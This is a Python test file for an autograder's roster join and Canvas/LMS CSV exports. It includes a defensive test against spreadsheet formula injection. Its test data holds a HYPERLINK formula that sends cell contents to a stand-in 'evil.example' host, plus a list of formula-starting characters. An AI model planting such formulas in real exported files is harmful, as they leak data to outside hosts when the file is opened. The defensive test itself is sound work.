"""The roster join and the LMS exports of a batch (autograder/instructor/batch/lms.py): one row per
roster student (missing ones too), group submissions split into their members, submissions
that match nobody reported, Canvas's gradebook import format, line-aware roster errors."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from autograder.core.results import write_atomic
from autograder.instructor.batch import lms
from autograder.instructor.batch.report import Row
from autograder.instructor.batch.students import Student

ROSTER = """id,name,email,login,github,section
1001,Ana Lima,ana@uni.edu,alima,ana-gh,A
1002,Bo Chen,bo@uni.edu,bchen,,A
1003,Cy Diaz,cy@uni.edu,cdiaz,,B
1004,Di Evans,di@uni.edu,devans,,B
"""


def csv_line(value: str) -> str:
    """One cell as a CSV line holds it (quotes doubled)."""
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow([value])
    return buf.getvalue()


def _roster(tmp_path: Path, text: str = ROSTER) -> list[lms.Person]:
    path = tmp_path / "roster.csv"
    path.write_text(text, encoding="utf-8")
    return lms.load_roster(path)


def _row(key: str, score: float, members: list[dict] | None = None, status: str = "complete") -> Row:
    student = Student(key=key, name=key, source=Path(f"/class/{key}"), members=members or [])
    return Row(student, {"status": status, "score": score, "max_score": 100})


def test_roster_join_splits_groups_lists_missing_and_unmatched(tmp_path):
    people = _roster(tmp_path)
    rows = [
        _row("ana-gh", 90.5),  # a folder named by GitHub user
        _row(
            "submission_7",
            80,
            [{"name": "Bo Chen", "sid": "1002", "email": ""}, {"name": "Cy", "sid": "", "email": "CY@uni.edu"}],
        ),
        _row("stranger", 50),
    ]
    joined = lms.join(rows, people)
    grades = list(csv.DictReader(io.StringIO(lms.grades_csv(people, joined, 100))))
    assert [(g["id"], g["score"], g["status"]) for g in grades] == [
        ("1001", "90.5", "graded"),
        ("1002", "80", "graded"),
        ("1003", "80", "graded"),
        ("1004", "", "missing-unmatched-work"),  # Di may be `stranger`: blank, never 0
    ]
    assert [(r.student.key, why) for r, _m, why in joined.unmatched] == [
        ("stranger", "matches no roster row (by id, email, login, github, folder or name) — add its folder to the roster")
    ]
    summary = "\n".join(lms.summary_lines(people, joined))
    assert "4 students on the roster: 3 with a submission, 1 missing; 1 submission(s)" in summary and "`stranger`" in summary


def test_canvas_csv_has_the_import_header_points_possible_and_numbers(tmp_path):
    people = _roster(tmp_path)
    joined = lms.join([_row("ana-gh", 90.5)], people)
    lines = list(csv.reader(io.StringIO(lms.canvas_csv(people, joined, "Week 7 attention", 100))))
    assert lines[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Week 7 attention"]
    assert lines[1] == ["Points Possible", "", "", "", "", "100"]
    assert lines[2] == ["Ana Lima", "", "1001", "alima", "A", "90.5"]
    assert lines[5][-1] == "0"  # missing work is 0, not a blank Canvas would skip


#: roster cells a spreadsheet would run (names in a student information system are often
#: student-chosen): the cases of issue 28 F, and the other characters that start a formula
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+dave", "@SUM(1+1)", "-2+3", "=1+1", "＝1+1"]
#: first characters of a cell that a spreadsheet runs
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
HOSTILE_ROSTER = f"""id,name,email,login,section,canvas_id
1001,{csv_line(FORMULAS[0])},ana@uni.edu,alima,A,501
1002,+dave,+dave@uni.edu,+dave,@SUM(1+1),502
1003,Cy Diaz,cy@uni.edu,-2+3,-2+3,503
-7,=1+1,di@uni.edu,devans,＝1+1,-8
"""


def _canvas_import(text: str, ids: set[str]) -> dict[str, float | None]:
    """What Canvas's gradebook import needs (its "Import" of an exported gradebook): the
    header's identifying columns, a Points Possible row, each student found by SIS User ID,
    each grade a number (a cell Canvas cannot read as one is rejected). Returns id → grade."""
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"], lines[0]
    assert lines[1][0] == "Points Possible" and float(lines[1][5]) > 0
    grades = {}
    for line in lines[2:]:
        assert line[2] in ids, f"SIS User ID {line[2]!r} is not a roster id: Canvas matches no student"
        # a number, or blank (Canvas keeps the cell's grade); raises on anything else
        grades[line[2]] = float(line[5]) if line[5] else None
    return grades


def test_roster_text_cannot_become_a_formula_in_any_lms_file_and_canvas_still_imports_it(tmp_path):
    """Issue 28 F: roster cells went raw into lms/canvas.csv and lms/grades.csv. Every text
    cell of every file is neutralised (a leading ``'``); ids and numbers are unchanged — a
    negative number is a number, while the text "-2+3" is neutralised."""
    people = _roster(tmp_path, HOSTILE_ROSTER)
    rows = [_row("alima", 90.5), _row("+dave", 12), _row("cy@uni.edu", 0), _row("=nobody", 1)]
    joined = lms.write(tmp_path, rows, people, "=Week 7", 100)
    names = ("canvas.csv", "grades.csv", "unmatched.csv")
    written = {name: (tmp_path / "lms" / name).read_text(encoding="utf-8") for name in names}
    for name, text in written.items():
        for line in csv.reader(io.StringIO(text)):
            for value in line:
                assert not value.startswith(FORMULA_START) or _plain_number(value), (name, value, line)
    grades = _canvas_import(written["canvas.csv"], {p.get("id") for p in people})
    # -7: a negative id is a number, unchanged; missing while "=nobody" matches no one: blank, not 0
    assert grades == {"1001": 90.5, "1002": 12.0, "1003": 0.0, "-7": None}
    canvas = list(csv.reader(io.StringIO(written["canvas.csv"])))
    assert canvas[0][5] == "'=Week 7"
    assert canvas[2][:2] == ["'" + FORMULAS[0], "501"]
    assert canvas[3][0] == "'+dave" and canvas[3][3] == "'+dave" and canvas[3][4] == "'@SUM(1+1)"
    assert canvas[4][3] == "'-2+3" and canvas[4][4] == "'-2+3"
    assert canvas[5][:2] == ["'=1+1", "-8"] and canvas[5][4] == "'＝1+1"
    grades_rows = {line[0]: line for line in csv.reader(io.StringIO(written["grades.csv"]))}
    assert grades_rows["1002"][1:5] == ["'+dave", "'+dave@uni.edu", "'+dave", "12"]
    assert grades_rows["-7"][1] == "'=1+1" and grades_rows["1001"][4:7] == ["90.5", "100", "90.5"]
    assert [r.student.key for r, _m, _w in joined.unmatched] == ["=nobody"]
    assert "'=nobody" in written["unmatched.csv"]


def _plain_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def test_roster_errors_name_the_line_and_the_fix(tmp_path):
    with pytest.raises(lms.RosterError, match=r"roster.csv:1: the header has no `id` column"):
        _roster(tmp_path, "student,email\n1,a@b\n")
    with pytest.raises(lms.RosterError, match=r"roster.csv:3: `ana@uni.edu` also identifies the student on line 2"):
        _roster(tmp_path, "id,email\n1,ana@uni.edu\n2,ANA@uni.edu\n")
    with pytest.raises(lms.RosterError, match=r"roster.csv:3: the `id` cell is empty"):
        _roster(tmp_path, "id,email\n1,a@b\n,c@d\n")


def test_a_student_who_submitted_twice_keeps_the_later_submission(tmp_path):
    people = _roster(tmp_path)
    joined = lms.join([_row("alima", 10), _row("ana-gh", 70)], people)
    assert joined.graded[2][0].student.key == "ana-gh"
    assert "replaced by a later submission" in joined.unmatched[0][2]


NAME_ONLY = """id,name
2001,Ana García
2002,Bob Smith
2003,"Díaz, Cy"
2004,Zoë Ng
2005,Li Wei
2006,Li Wei
"""


def _folder_row(folder: str, score: float) -> Row:
    source = Path(f"/class/{folder}")
    student = Student(key=folder.replace(" ", "_"), name=folder.removesuffix(".zip"), source=source)
    return Row(student, {"status": "complete", "score": score, "max_score": 100})


def test_folders_named_after_students_match_a_name_only_roster_accents_case_and_order_ignored(tmp_path):
    people = _roster(tmp_path, NAME_ONLY)
    rows = [_folder_row(name, 90) for name in ("Ana García", "bob_smith", "CY DIAZ.zip", "Li Wei")]
    joined = lms.join(rows, people)
    matched = {line: r.student.name for line, (r, _m, _how) in joined.graded.items()}
    assert matched == {2: "Ana García", 3: "bob_smith", 4: "CY DIAZ"}
    assert joined.by_name == 3
    # two roster rows named Li Wei: reported with both lines, never guessed
    assert [(r.student.name, why) for r, _m, why in joined.unmatched] == [
        ("Li Wei", "its name fits several roster rows (lines 6, 7) — add a `folder` column to tell them apart")
    ]
    assert lms.name_key("GARCÍA, Ana") == lms.name_key("ana_garcia") == lms.name_key("Ａｎａ　Garci\u0301a") == "ana garcia"


def test_no_roster_student_gets_0_while_a_submission_matches_nobody_unless_accepted(tmp_path):
    people = _roster(tmp_path, NAME_ONLY)
    joined = lms.join([_folder_row("Ana García", 95), _folder_row("Zoe N.", 80)], people)  # Zoë's folder fits no name
    canvas = list(csv.reader(io.StringIO(lms.canvas_csv(people, joined, "W7", 100))))
    assert canvas[2][-1] == "95" and [line[-1] for line in canvas[3:]] == ["", "", "", "", ""]
    grades = list(csv.DictReader(io.StringIO(lms.grades_csv(people, joined, 100))))
    assert {g["status"] for g in grades[1:]} == {"missing-unmatched-work"} and {g["score"] for g in grades[1:]} == {""}
    summary = "\n".join(lms.summary_lines(people, joined))
    assert "left blank, not 0" in summary and "--accept-unmatched" in summary
    accepted = list(csv.reader(io.StringIO(lms.canvas_csv(people, joined, "W7", 100, accept_unmatched=True))))
    assert [line[-1] for line in accepted[3:]] == ["0", "0", "0", "0", "0"]
    assert joined.counts(people) == "roster: 1 matched (1 by name), 1 unmatched submission(s), 5 roster student(s) missing"
    # the unmatched file names the folder as it is in SUBMISSIONS: copied into the roster, it matches
    unmatched = list(csv.DictReader(io.StringIO(lms.unmatched_csv(joined))))
    assert unmatched[0]["folder"] == "Zoe N." and unmatched[0]["results"] == "Zoe_N."
    fixed = _roster(tmp_path, NAME_ONLY.replace("2004,Zoë Ng", "2004,Zoë Ng,Zoe N.").replace("id,name", "id,name,folder"))
    again = lms.join([_folder_row("Ana García", 95), _folder_row("Zoe N.", 80)], fixed)
    assert not again.unmatched and again.graded[5][0].student.name == "Zoe N."


def test_a_folder_name_that_is_not_utf8_matches_as_unmatched_csv_shows_it(tmp_path):
    """A folder whose name is not UTF-8 is shown with visible escapes (``bad\\udcffname``);
    copied from unmatched.csv into the roster's folder column, it matched nothing, and the
    student stayed blank (blind tester R-CO)."""
    people = _roster(tmp_path, NAME_ONLY)
    row = _folder_row("bad\udcff\udcfename", 80)
    joined = lms.join([row], people)
    written = tmp_path / "unmatched.csv"
    write_atomic(written, lms.unmatched_csv(joined))  # as the batch writes it: what UTF-8 cannot hold, escaped
    shown = list(csv.DictReader(io.StringIO(written.read_text(encoding="utf-8"))))[0]["folder"]
    assert shown == "bad\\udcff\\udcfename"
    fixed = _roster(tmp_path, NAME_ONLY.replace("2004,Zoë Ng", f"2004,Zoë Ng,{shown}").replace("id,name", "id,name,folder"))
    again = lms.join([row], fixed)
    assert not again.unmatched and again.graded[5][0] is row


CANVAS_EXPORT = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Week 7 attention (31337),Current Score,Final Score\n"
    "    Points Possible,,,,,41.5,(read only),(read only)\n"
    '"García, Ana",9001,S2001,agarcia,Sec A,30,72.3,72.3\n'
    '"Smith, Bob",9002,S2002,bsmith,Sec B,,0,0\n'
    '"Student, Test",9003,,,Sec A,,,\n'
)


def test_canvas_gradebook_export_is_a_roster(tmp_path):
    notes: list[str] = []
    path = tmp_path / "export.csv"
    path.write_text("\ufeff" + CANVAS_EXPORT, encoding="utf-8")
    people = lms.load_roster(path, notes)
    assert [(p.get("id"), p.get("login"), p.get("canvas_id"), p.get("section"), p.get("name")) for p in people] == [
        ("S2001", "agarcia", "9001", "Sec A", "García, Ana"),
        ("S2002", "bsmith", "9002", "Sec B", "Smith, Bob"),
    ]
    assert any("`week 7 attention (31337)`, `current score`, `final score` ignored" in n for n in notes), notes
    assert any("Student, Test has no SIS User ID" in n for n in notes), notes
    joined = lms.join([_folder_row("Ana Garcia", 40), _folder_row("bsmith", 35)], people)
    lines = list(csv.reader(io.StringIO(lms.canvas_csv(people, joined, "Week 7 attention", 41.5))))
    assert lines[2] == ["García, Ana", "9001", "S2001", "agarcia", "Sec A", "40"]
    assert lines[3] == ["Smith, Bob", "9002", "S2002", "bsmith", "Sec B", "35"]
